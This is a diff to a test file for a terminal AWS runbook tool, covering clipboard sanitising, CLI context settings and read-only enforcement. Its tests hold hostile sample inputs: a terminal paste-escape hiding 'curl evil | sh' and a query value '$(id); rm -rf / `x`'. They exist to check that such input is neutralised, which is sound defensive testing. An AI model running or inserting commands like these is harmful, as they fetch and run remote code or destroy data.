@@ -11,7 +11,7 @@ import {builtInRunbook} from '../../source/runbooks/load-runbook.js';
 import {allSteps} from '../../source/runbooks/model.js';
 import {createRunbookSession, type RunbookSession} from '../../source/screens/runbooks/runbook-session.js';
 import {stepKind} from '../../source/screens/runbooks/step-kind.js';
-import {awsCliEnv, awsUnavailable, type EffectDeps, listTaskChoices, performRequest} from '../../source/screens/runbooks/walker-effects.js';
+import {awsUnavailable, cliContextOf, type EffectDeps, listTaskChoices, performRequest} from '../../source/screens/runbooks/walker-effects.js';
 import type {RunEnv, WalkerState} from '../../source/screens/runbooks/walker-state.js';
 import type {FixRequest} from '../../source/shell/app-context.js';
 import {createManualClock, createSimCloud} from '../../source/sim/index.js';
@@ -140,6 +140,12 @@ describe('changes, the clipboard and the session', () => {
 		expect(notices.at(-1)).toEqual({text: 'copy is not available on this terminal', tone: 'warn'});
 	});
 
+	it('copies a guide\'s text as it is drawn: no escape sequence, no carriage return, the lines kept', () => {
+		const {copied, deps} = setup();
+		performRequest({id: 9, kind: 'copy', text: 'aws ecs list-clusters \\\n  --x \u001b[201~\rcurl evil | sh \u202e', what: 'the command'}, deps, () => {});
+		expect(copied).toEqual(['aws ecs list-clusters \\\n  --x \\x1b[201~\\x0dcurl evil | sh <U+202E>']);
+	});
+
 	it('keeps requests until a performer attaches, and results after it detaches', async () => {
 		const loaded = builtInRunbook(config.names);
 		const session = createRunbookSession(() => loaded);
@@ -177,14 +183,9 @@ describe('the aws CLI', () => {
 		expect(awsUnavailable({kind: 'aws'}, dir)).toBeUndefined();
 	});
 
-	it('points the CLI at the dashboard\'s region, profile and endpoint', () => {
-		expect(awsCliEnv({region: 'eu-west-1'}, {profile: 'oncall', endpointUrl: 'http://127.0.0.1:5000'})).toEqual({
-			AWS_REGION: 'eu-west-1',
-			AWS_DEFAULT_REGION: 'eu-west-1',
-			AWS_PROFILE: 'oncall',
-			AWS_ENDPOINT_URL: 'http://127.0.0.1:5000',
-		});
-		expect(awsCliEnv({region: 'us-east-1'}, {})).toEqual({AWS_REGION: 'us-east-1', AWS_DEFAULT_REGION: 'us-east-1'});
+	it('points the CLI at the dashboard\'s region, profile and endpoint, and its session', () => {
+		expect(cliContextOf({region: 'eu-west-1'}, {profile: 'oncall', endpointUrl: 'http://127.0.0.1:5000'}, 's1', {})).toEqual({region: 'eu-west-1', profile: 'oncall', endpointUrl: 'http://127.0.0.1:5000', sessionId: 's1'});
+		expect(cliContextOf({region: 'us-east-1'}, {}, 's2', {AWS_PROFILE: 'from-env'})).toEqual({region: 'us-east-1', profile: 'from-env', sessionId: 's2'});
 	});
 
 	it('runs a filled-in read as an argument vector: a value with shell characters stays one argument', async () => {
@@ -203,7 +204,7 @@ describe('the aws CLI', () => {
 		expect(record.outcome.result.stdout.split('\n')).toEqual(['arg:ec2', 'arg:describe-network-acls', 'arg:--filters', 'arg:Name=vpc-id,Values=vpc-0a1b2c3d', 'region:eu-west-1 profile:', '']);
 		const hostile = await new Promise<string>(resolve => {
 			const {deps} = setup(awsCloud());
-			performRequest({id: 1, kind: 'external', stepId: 's', runId: 1, argv: ['aws', 'sts', 'get-caller-identity', '--query', '$(id); rm -rf / `x`'], env: {}, write: false}, deps, action => {
+			performRequest({id: 1, kind: 'external', stepId: 's', runId: 1, argv: ['aws', 'sts', 'get-caller-identity', '--query', '$(id); rm -rf / `x`'], write: false}, deps, action => {
 				if (action.type === 'finished' && action.outcome.kind === 'external') resolve(action.outcome.result.stdout);
 			});
 		});
@@ -214,10 +215,10 @@ describe('the aws CLI', () => {
 		process.env.PATH = `${dir}:${savedPath}`;
 		const {deps} = setup(awsCloud());
 		const result = await new Promise<{failed: boolean; message: string}>(resolve => {
-			performRequest({id: 1, kind: 'external', stepId: 's', runId: 1, argv: ['aws', 'iam', 'attach-role-policy', '--role-name', 'r'], env: {}, write: true}, deps, action => {
+			performRequest({id: 1, kind: 'external', stepId: 's', runId: 1, argv: ['aws', 'iam', 'attach-role-policy', '--role-name', 'r'], write: true}, deps, action => {
 				if (action.type === 'finished' && action.outcome.kind === 'external') resolve({failed: action.failed, message: action.outcome.result.message});
 			});
 		});
-		expect(result).toEqual({failed: true, message: 'a change: acso-tui is read-only: start it with --write to allow changes'});
+		expect(result).toEqual({failed: true, message: "a change (aws iam attach-role-policy is not on acso-tui's list of read-only operations): acso-tui is read-only: start it with --write to allow changes"});
 	});
 });
